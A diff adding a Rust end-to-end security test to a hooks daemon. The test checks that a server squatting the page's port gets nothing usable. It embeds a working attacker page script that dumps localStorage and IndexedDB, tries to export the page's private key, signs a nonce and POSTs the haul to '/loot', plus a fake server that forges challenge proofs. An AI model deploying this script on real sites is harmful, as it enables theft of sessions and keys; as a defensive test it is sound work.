@@ -586,3 +586,228 @@ fn a_cost_cap_codex_cannot_hold_is_refused_not_dropped() {
     assert_eq!(o.status.code(), Some(2), "{o:?}");
     assert!(app.hook("post-task")["maxCostUsd"].is_null());
 }
+
+/// What the squatter's own page does on the page's origin: reads what the browser keeps
+/// there, tries to take the page's key out, has the browser sign a nonce of its own, and
+/// sends all of it home.
+const SQUATTER_PAGE: &str = r#"<!doctype html><title>squatter</title><script>
+(async () => {
+  const hex = (b) => Array.from(new Uint8Array(b), (x) => ('0' + x.toString(16)).slice(-2)).join('');
+  const out = { stored: Object.keys(localStorage).map((k) => k + '=' + localStorage.getItem(k)) };
+  const rec = await new Promise((ok, no) => {
+    const q = indexedDB.open('hooks-app', 1);
+    q.onupgradeneeded = () => q.result.createObjectStore('login');
+    q.onerror = () => no(q.error);
+    q.onsuccess = () => {
+      const g = q.result.transaction('login', 'readonly').objectStore('login').get('page');
+      g.onsuccess = () => ok(g.result);
+      g.onerror = () => no(g.error);
+    };
+  });
+  out.id = rec && rec.id;
+  out.daemon = rec && rec.daemon;
+  try { out.exported = hex(await crypto.subtle.exportKey('pkcs8', rec.key)); }
+  catch (e) { out.exportError = String(e); }
+  out.nonce = 'ab'.repeat(32);
+  out.sig = hex(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, rec.key,
+    new TextEncoder().encode('hooks-app page request\n' + rec.id + '\n' + out.nonce)));
+  await fetch('/loot', { method: 'POST', body: JSON.stringify(out) });
+  document.title = 'looted';
+})().catch((e) => { document.title = 'loot failed: ' + e; });
+</script>"#;
+
+/// Another user's server on the page's own port while the daemon is down: every request
+/// (head and body) is kept. It answers the page's challenge with a proof it cannot make,
+/// serves its own page at `/`, and takes what that page sends to `/loot`.
+fn squat(
+    listener: std::net::TcpListener,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+) -> std::thread::JoinHandle<Vec<(String, String)>> {
+    use std::io::{Read, Write};
+    listener.set_nonblocking(true).unwrap();
+    std::thread::spawn(move || {
+        let mut seen = Vec::new();
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
+        while !stop.load(std::sync::atomic::Ordering::SeqCst)
+            && std::time::Instant::now() < deadline
+        {
+            let mut c = match listener.accept() {
+                Ok((c, _)) => c,
+                // Nothing to accept yet: the loop is bounded by its deadline and the flag.
+                Err(_) => {
+                    std::thread::sleep(std::time::Duration::from_millis(20));
+                    continue;
+                }
+            };
+            c.set_nonblocking(false).unwrap();
+            c.set_read_timeout(Some(std::time::Duration::from_secs(5)))
+                .unwrap();
+            let mut got = Vec::new();
+            let mut buf = [0u8; 8192];
+            let head_end = loop {
+                if let Some(i) = got.windows(4).position(|w| w == b"\r\n\r\n") {
+                    break Some(i + 4);
+                }
+                match c.read(&mut buf) {
+                    Ok(0) | Err(_) => break None,
+                    Ok(n) => got.extend_from_slice(&buf[..n]),
+                }
+            };
+            let Some(head_end) = head_end else { continue };
+            let head = String::from_utf8_lossy(&got[..head_end]).into_owned();
+            let len: usize = head
+                .lines()
+                .find_map(|l| {
+                    let (k, v) = l.split_once(':')?;
+                    k.eq_ignore_ascii_case("content-length")
+                        .then(|| v.trim().parse().ok())?
+                })
+                .unwrap_or(0);
+            while got.len() < head_end + len {
+                match c.read(&mut buf) {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => got.extend_from_slice(&buf[..n]),
+                }
+            }
+            let body = String::from_utf8_lossy(&got[head_end..]).into_owned();
+            let path = head.split(' ').nth(1).unwrap_or("").to_owned();
+            let (status, kind, answer) = if path.starts_with("/page/challenge") {
+                let forged =
+                    serde_json::json!({"nonce": "cd".repeat(32), "proof": "00".repeat(64)});
+                ("200 OK", "application/json", forged.to_string())
+            } else if path == "/" {
+                ("200 OK", "text/html", SQUATTER_PAGE.to_owned())
+            } else if path == "/loot" {
+                ("200 OK", "text/plain", String::new())
+            } else {
+                ("404 Not Found", "text/plain", String::new())
+            };
+            let _ = c.write_all(
+                format!(
+                    "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nCache-Control: no-store\r\nConnection: close\r\n\r\n{answer}",
+                    answer.len()
+                )
+                .as_bytes(),
+            );
+            seen.push((head, body));
+        }
+        seen
+    })
+}
+
+/// Another user binds the page's port while the daemon is down. The open tab's poll asks
+/// it to prove it is the daemon, gets a proof it cannot make, sends nothing and stops; the
+/// squatter's own page, run on the page's origin when the person opens the address, finds
+/// no session in `localStorage`, cannot take the page's key out, and what it has the
+/// browser sign is refused by the daemon once it is back. The person's tab then works again.
+#[test]
+fn a_server_squatting_the_pages_port_is_sent_nothing_it_can_use() {
+    use std::io::{BufRead, BufReader, Write};
+    let app = App::fake();
+    app.ok(&["init"]);
+    let d = Served::start(&app, &[], &[]);
+    let addr = d.addr;
+    let login = app.ok(&["open", "--no-browser"]).trim().to_owned();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/e2e/browser/squatter.cjs");
+    let mut node = hooks_testkit::browser::node(&script)
+        .env("LOGIN_URL", &login)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("node");
+    let mut to_node = node.stdin.take().unwrap();
+    let mut lines = BufReader::new(node.stdout.take().unwrap()).lines();
+    let mut next = || -> Value {
+        let l = lines.next().expect("a step").expect("read");
+        let v: Value = serde_json::from_str(&l).unwrap_or_else(|e| panic!("{e}: {l}"));
+        assert_ne!(v["step"], "failed", "{v}");
+        v
+    };
+    assert_eq!(next()["step"], "logged in");
+    d.stop();
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let squatter = squat(std::net::TcpListener::bind(addr).unwrap(), stop.clone());
+    writeln!(to_node, "squatted").unwrap();
+    let untrusted = next();
+    assert_eq!(untrusted["step"], "untrusted", "{untrusted}");
+    assert_eq!(
+        untrusted["poll"],
+        Value::Null,
+        "the poll stopped: {untrusted}"
+    );
+    assert!(
+        untrusted["text"]
+            .as_str()
+            .unwrap()
+            .contains("could not prove"),
+        "{untrusted}"
+    );
+    let looted = next();
+    assert_eq!(looted["title"], "looted", "{looted}");
+    stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    let seen = squatter.join().unwrap();
+
+    assert!(
+        seen.iter()
+            .any(|(h, _)| h.starts_with("GET /page/challenge")),
+        "the tab asked the squatter to prove itself: {seen:?}"
+    );
+    for (head, _) in &seen {
+        assert!(
+            !head.to_ascii_lowercase().contains("\r\nauthorization:")
+                && !head.to_ascii_lowercase().contains("\r\ncookie:"),
+            "the browser sent the squatter a credential:\n{head}"
+        );
+    }
+    let loot: Value = serde_json::from_str(
+        &seen
+            .iter()
+            .find(|(h, _)| h.starts_with("POST /loot"))
+            .expect("the squatter's page sent its loot")
+            .1,
+    )
+    .unwrap();
+    assert_eq!(loot["stored"], serde_json::json!([]), "{loot}");
+    assert!(
+        loot["exported"].is_null() && loot["exportError"].is_string(),
+        "the page's key cannot be taken out: {loot}"
+    );
+    let id = loot["id"]
+        .as_str()
+        .expect("the session id is on the origin");
+
+    // The daemon is back on its port: nothing the squatter took gets in.
+    let d = Served::start_at(&app, &addr.to_string(), &[], &[]);
+    assert_eq!(d.addr, addr);
+    for taken in [
+        format!(
+            "Page {id} {} {}",
+            loot["nonce"].as_str().unwrap(),
+            loot["sig"].as_str().unwrap()
+        ),
+        format!("Page {id}"),
+        format!("Bearer {id}"),
+    ] {
+        let r = call(
+            addr,
+            "GET",
+            "/api/v1/hooks",
+            &[("Authorization", &taken)],
+            None,
+        );
+        assert_eq!(r.status, 401, "{taken}: {r:?}");
+        let r = call(addr, "GET", "/", &[("Authorization", &taken)], None);
+        assert_eq!(r.status, 401, "{taken}: {r:?}");
+    }
+    writeln!(to_node, "back").unwrap();
+    assert_eq!(next()["step"], "back", "the person's own tab works again");
+    drop(to_node);
+    let out = node.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    d.stop();
+}
